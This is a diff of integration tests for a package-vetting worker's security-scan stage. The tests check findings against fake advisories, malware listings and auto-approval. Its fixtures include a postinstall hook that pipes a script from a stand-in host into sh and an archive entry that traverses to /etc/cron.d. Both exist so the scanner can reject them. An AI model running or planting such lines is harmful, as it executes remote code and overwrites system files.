@@ -32,21 +32,33 @@ const advisories = [
     summary: 'Command injection in vuln-pkg template rendering',
     details: 'vuln-pkg passes user input to a shell.',
     severity: [{ type: 'CVSS_V3', score: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:H' }],
-    affected: [{ package: { ecosystem: 'npm', name: 'vuln-pkg' }, ranges: [{ type: 'ECOSYSTEM', events: [{ introduced: '0' }, { fixed: '1.2.4' }] }] }],
+    affected: [
+      {
+        package: { ecosystem: 'npm', name: 'vuln-pkg' },
+        ranges: [{ type: 'ECOSYSTEM', events: [{ introduced: '0' }, { fixed: '1.2.4' }] }],
+      },
+    ],
     references: [{ type: 'ADVISORY', url: 'https://advisories.example.test/GHSA-vvvv-wwww-xxxx' }],
   },
   {
     id: 'MAL-2099-0001',
     modified: '2099-01-05T00:00:00Z',
     summary: 'Malicious code in evil-pkg (npm)',
-    affected: [{ package: { ecosystem: 'npm', name: 'evil-pkg' }, ranges: [{ type: 'SEMVER', events: [{ introduced: '0' }] }] }],
+    affected: [
+      { package: { ecosystem: 'npm', name: 'evil-pkg' }, ranges: [{ type: 'SEMVER', events: [{ introduced: '0' }] }] },
+    ],
   },
   {
     id: 'GHSA-wwww-dddd-wwww',
     modified: '2099-01-05T00:00:00Z',
     withdrawn: '2099-01-06T00:00:00Z',
     summary: 'Withdrawn: not actually a vulnerability',
-    affected: [{ package: { ecosystem: 'npm', name: 'clean-pkg' }, ranges: [{ type: 'ECOSYSTEM', events: [{ introduced: '0' }] }] }],
+    affected: [
+      {
+        package: { ecosystem: 'npm', name: 'clean-pkg' },
+        ranges: [{ type: 'ECOSYSTEM', events: [{ introduced: '0' }] }],
+      },
+    ],
   },
 ];
 
@@ -70,7 +82,14 @@ async function claimed(pkg: BuiltPackage, opts: { storageKey?: string | null } =
   const lockedUntil = new Date(Date.now() + 60_000);
   await t.db
     .insertInto('package_status')
-    .values({ package_id: row.id, status: Status.SecurityScanning, locked_by: 'w1', locked_until: lockedUntil, storage_key: storageKey })
+    .values({
+      package_id: row.id,
+      status: Status.SecurityScanning,
+      locked_by: 'w1',
+      locked_until: lockedUntil,
+      storage_key: storageKey,
+      license_flags: [],
+    })
     .execute();
   return {
     packageId: row.id,
@@ -94,7 +113,14 @@ async function claimed(pkg: BuiltPackage, opts: { storageKey?: string | null } =
 
 function ctxFor(pkg: ClaimedPackage, env: Record<string, string> = {}): StageContext {
   const config: WorkerConfig = loadConfig(
-    { DATABASE_URL: t.url, SOURCE_REGISTRY_URL: registry.url, PACKAGE_CACHE_DIR: cacheDir, LOG_LEVEL: 'silent', LOG_FORMAT: 'json', ...env },
+    {
+      DATABASE_URL: t.url,
+      SOURCE_REGISTRY_URL: registry.url,
+      PACKAGE_CACHE_DIR: cacheDir,
+      LOG_LEVEL: 'silent',
+      LOG_FORMAT: 'json',
+      ...env,
+    },
     { npmRegistry: () => null },
   );
   return { pkg, signal: new AbortController().signal, log, db: t.db, config, workerId: 'w1' };
@@ -122,63 +148,136 @@ describe('scan stage against real Postgres', () => {
   it('sends a known-vulnerable version to Pending Approval with the advisory in its findings', async () => {
     const pkg = await claimed(buildPackage({ name: 'vuln-pkg', version: '1.2.3' }));
     const outcome = await scanStage(ctxFor(pkg));
-    expect(outcome).toMatchObject({ kind: 'done', via: [Status.SecurityScanned], to: Status.PendingApproval, patch: { security_score: 80, scan_state: 'findings' } });
+    expect(outcome).toMatchObject({
+      kind: 'done',
+      via: [Status.SecurityScanned],
+      to: Status.PendingApproval,
+      patch: { security_score: 80, scan_state: 'findings' },
+    });
     const scan = await latestSecurityScan(t.db, pkg.packageId);
-    expect(scan).toMatchObject({ malware: false, score: 80, counts: { critical: 0, high: 1, medium: 0, low: 0, info: 0 } });
+    expect(scan).toMatchObject({
+      malware: false,
+      score: 80,
+      counts: { critical: 0, high: 1, medium: 0, low: 0, info: 0 },
+    });
     expect(scan!.findings).toEqual([
-      expect.objectContaining({ id: 'GHSA-vvvv-wwww-xxxx', source: 'osv', severity: 'high', aliases: ['CVE-2099-0001'], fixedVersions: ['1.2.4'], url: 'https://advisories.example.test/GHSA-vvvv-wwww-xxxx' }),
+      expect.objectContaining({
+        id: 'GHSA-vvvv-wwww-xxxx',
+        source: 'osv',
+        severity: 'high',
+        aliases: ['CVE-2099-0001'],
+        fixedVersions: ['1.2.4'],
+        url: 'https://advisories.example.test/GHSA-vvvv-wwww-xxxx',
+      }),
     ]);
-    expect(scan!.scanners).toEqual([expect.objectContaining({ name: 'builtin', details: expect.objectContaining({ advisories: 3, registryComparison: 'compared' }) })]);
+    expect(scan!.scanners).toEqual([
+      expect.objectContaining({
+        name: 'builtin',
+        details: expect.objectContaining({ advisories: 3, registryComparison: 'compared' }),
+      }),
+    ]);
   });
 
   it('does not flag the fixed version', async () => {
     const pkg = await claimed(buildPackage({ name: 'vuln-pkg', version: '1.2.4' }));
-    expect(await scanStage(ctxFor(pkg))).toMatchObject({ kind: 'done', to: Status.PendingApproval, patch: { security_score: 100, scan_state: 'clean' } });
+    expect(await scanStage(ctxFor(pkg))).toMatchObject({
+      kind: 'done',
+      to: Status.PendingApproval,
+      patch: { security_score: 100, scan_state: 'clean' },
+    });
   });
 
   it('rejects a malware-listed package (policy)', async () => {
     const pkg = await claimed(buildPackage({ name: 'evil-pkg', version: '6.6.6' }));
     const outcome = await scanStage(ctxFor(pkg));
-    expect(outcome).toMatchObject({ kind: 'reject', rejection: 'policy', patch: { security_score: 0, scan_state: 'malware' } });
-    expect(outcome.kind === 'reject' && outcome.reason).toMatch(/^malware: evil-pkg@6\.6\.6 is listed as malicious \(MAL-2099-0001 \(critical\)/);
-    expect(await latestSecurityScan(t.db, pkg.packageId)).toMatchObject({ malware: true, score: 0, counts: { critical: 1 } });
+    expect(outcome).toMatchObject({
+      kind: 'reject',
+      rejection: 'policy',
+      patch: { security_score: 0, scan_state: 'malware' },
+    });
+    expect(outcome.kind === 'reject' && outcome.reason).toMatch(
+      /^malware: evil-pkg@6\.6\.6 is listed as malicious \(MAL-2099-0001 \(critical\)/,
+    );
+    expect(await latestSecurityScan(t.db, pkg.packageId)).toMatchObject({
+      malware: true,
+      score: 0,
+      counts: { critical: 1 },
+    });
   });
 
   it('sends a clean package to Pending Approval with a clean report (a withdrawn advisory does not count)', async () => {
-    const pkg = await claimed(buildPackage({ name: 'clean-pkg', version: '2.0.0', files: { 'lib/a.js': 'module.exports = 1;\n' } }));
+    const pkg = await claimed(
+      buildPackage({ name: 'clean-pkg', version: '2.0.0', files: { 'lib/a.js': 'module.exports = 1;\n' } }),
+    );
     const outcome = await scanStage(ctxFor(pkg));
-    expect(outcome).toMatchObject({ kind: 'done', via: [Status.SecurityScanned], to: Status.PendingApproval, patch: { security_score: 100, scan_state: 'clean' } });
+    expect(outcome).toMatchObject({
+      kind: 'done',
+      via: [Status.SecurityScanned],
+      to: Status.PendingApproval,
+      patch: { security_score: 100, scan_state: 'clean' },
+    });
     const scans = await latestSecurityScans(t.db, [pkg.packageId]);
-    expect(scans.get(pkg.packageId)).toMatchObject({ findings: [], score: 100, counts: { critical: 0, high: 0, medium: 0, low: 0, info: 0 } });
+    expect(scans.get(pkg.packageId)).toMatchObject({
+      findings: [],
+      score: 100,
+      counts: { critical: 0, high: 0, medium: 0, low: 0, info: 0 },
+    });
   });
 
   it('records supply-chain signals and rejects automatically when SCAN_AUTO_REJECT_SEVERITY is met', async () => {
-    const pkg = await claimed(buildPackage({ name: 'dropper', version: '1.0.0', manifest: { scripts: { postinstall: 'curl -s https://payload.example.test/i.sh | sh' } } }));
+    const pkg = await claimed(
+      buildPackage({
+        name: 'dropper',
+        version: '1.0.0',
+        manifest: { scripts: { postinstall: 'curl -s https://payload.example.test/i.sh | sh' } },
+      }),
+    );
     const outcome = await scanStage(ctxFor(pkg, { SCAN_AUTO_REJECT_SEVERITY: 'high' }));
     expect(outcome).toMatchObject({ kind: 'reject', rejection: 'policy', patch: { scan_state: 'rejected-by-policy' } });
-    expect(outcome.kind === 'reject' && outcome.reason).toMatch(/SCAN_AUTO_REJECT_SEVERITY=high: 1 finding\(s\) at or above high: install-script-download-exec \(critical\)/);
+    expect(outcome.kind === 'reject' && outcome.reason).toMatch(
+      /SCAN_AUTO_REJECT_SEVERITY=high: 1 finding\(s\) at or above high: install-script-download-exec \(critical\)/,
+    );
     const scan = await latestSecurityScan(t.db, pkg.packageId);
     expect((scan!.findings as Finding[]).map((f) => f.id)).toEqual(['install-script-download-exec', 'install-script']);
   });
 
   it('approves automatically with WORKER_AUTO_APPROVE only when nothing is medium or above', async () => {
     const clean = await claimed(buildPackage({ name: 'auto-clean', version: '1.0.0' }));
-    expect(await scanStage(ctxFor(clean, { WORKER_AUTO_APPROVE: 'true' }))).toMatchObject({ kind: 'done', via: [Status.SecurityScanned], to: Status.Approved });
+    expect(await scanStage(ctxFor(clean, { WORKER_AUTO_APPROVE: 'true' }))).toMatchObject({
+      kind: 'done',
+      via: [Status.SecurityScanned],
+      to: Status.Approved,
+    });
     const vuln = await claimed(buildPackage({ name: 'vuln-pkg', version: '1.0.0' }));
-    expect(await scanStage(ctxFor(vuln, { WORKER_AUTO_APPROVE: 'true' }))).toMatchObject({ kind: 'done', to: Status.PendingApproval });
+    expect(await scanStage(ctxFor(vuln, { WORKER_AUTO_APPROVE: 'true' }))).toMatchObject({
+      kind: 'done',
+      to: Status.PendingApproval,
+    });
   });
 
   it('rejects a hostile archive (policy) and records why', async () => {
-    const pkg = await claimed(buildPackage({ name: 'hostile', version: '1.0.0', extraEntries: [{ path: 'package/../../../etc/cron.d/x', content: 'pwned' }] }));
+    const pkg = await claimed(
+      buildPackage({
+        name: 'hostile',
+        version: '1.0.0',
+        extraEntries: [{ path: 'package/../../../etc/cron.d/x', content: 'pwned' }],
+      }),
+    );
     const err = await scanStage(ctxFor(pkg)).catch((e: unknown) => e);
     expect(err).toBeInstanceOf(PermanentError);
     expect((err as PermanentError).kind).toBe('policy');
-    expect((err as Error).message).toMatch(/hostile archive: entry "package\/\.\.\/\.\.\/\.\.\/etc\/cron\.d\/x" has a '\.\.' path segment/);
-    expect(await latestSecurityScan(t.db, pkg.packageId)).toMatchObject({ findings: [expect.objectContaining({ id: 'hostile-archive', severity: 'critical' })] });
+    expect((err as Error).message).toMatch(
+      /hostile archive: entry "package\/\.\.\/\.\.\/\.\.\/etc\/cron\.d\/x" has a '\.\.' path segment/,
+    );
+    expect(await latestSecurityScan(t.db, pkg.packageId)).toMatchObject({
+      findings: [expect.objectContaining({ id: 'hostile-archive', severity: 'critical' })],
+    });
   });
 
   it('sends a package whose tarball vanished from the cache back to be downloaded', async () => {
-    const pkg = await claimed(buildPackage({ name: 'vanished', version: '1.0.0' }), { storageKey: 'sha512/00/missing.tgz' });
+    const pkg = await claimed(buildPackage({ name: 'vanished', version: '1.0.0' }), {
+      storageKey: 'sha512/00/missing.tgz',
+    });
     expect(await scanStage(ctxFor(pkg))).toMatchObject({ kind: 'done', to: Status.LicenceChecked });
   });
 
@@ -188,7 +287,9 @@ describe('scan stage against real Postgres', () => {
     const outcome = await scanStage(ctxFor(pkg));
     expect(outcome).toMatchObject({ kind: 'done', to: Status.PendingApproval, patch: { scan_state: 'clean' } });
     const scan = await latestSecurityScan(t.db, pkg.packageId);
-    expect(scan!.findings).toEqual([expect.objectContaining({ id: 'registry-metadata-unavailable', severity: 'info' })]);
+    expect(scan!.findings).toEqual([
+      expect.objectContaining({ id: 'registry-metadata-unavailable', severity: 'info' }),
+    ]);
   });
 
   describe('with Trivy configured (fake trivy first on PATH)', () => {
@@ -207,7 +308,11 @@ describe('scan stage against real Postgres', () => {
       const outcome = await scanStage(ctxFor(pkg, trivyEnv));
       expect(outcome).toMatchObject({ kind: 'done', to: Status.PendingApproval });
       const scan = await latestSecurityScan(t.db, pkg.packageId);
-      expect(scan!.scanners.map((s) => (s as { name: string; version: string }).name + '@' + (s as { version: string }).version)).toEqual(['builtin@1', 'trivy@0.58.1']);
+      expect(
+        scan!.scanners.map(
+          (s) => (s as { name: string; version: string }).name + '@' + (s as { version: string }).version,
+        ),
+      ).toEqual(['builtin@1', 'trivy@0.58.1']);
       const findings = scan!.findings as Finding[];
       expect(findings.map((f) => f.id)).toEqual(['GHSA-vvvv-wwww-xxxx', 'GHSA-9x9x-8y8y-7z7z']);
       expect(findings[0]).toMatchObject({ aliases: ['CVE-2099-0001'], alsoReportedBy: ['trivy'] });
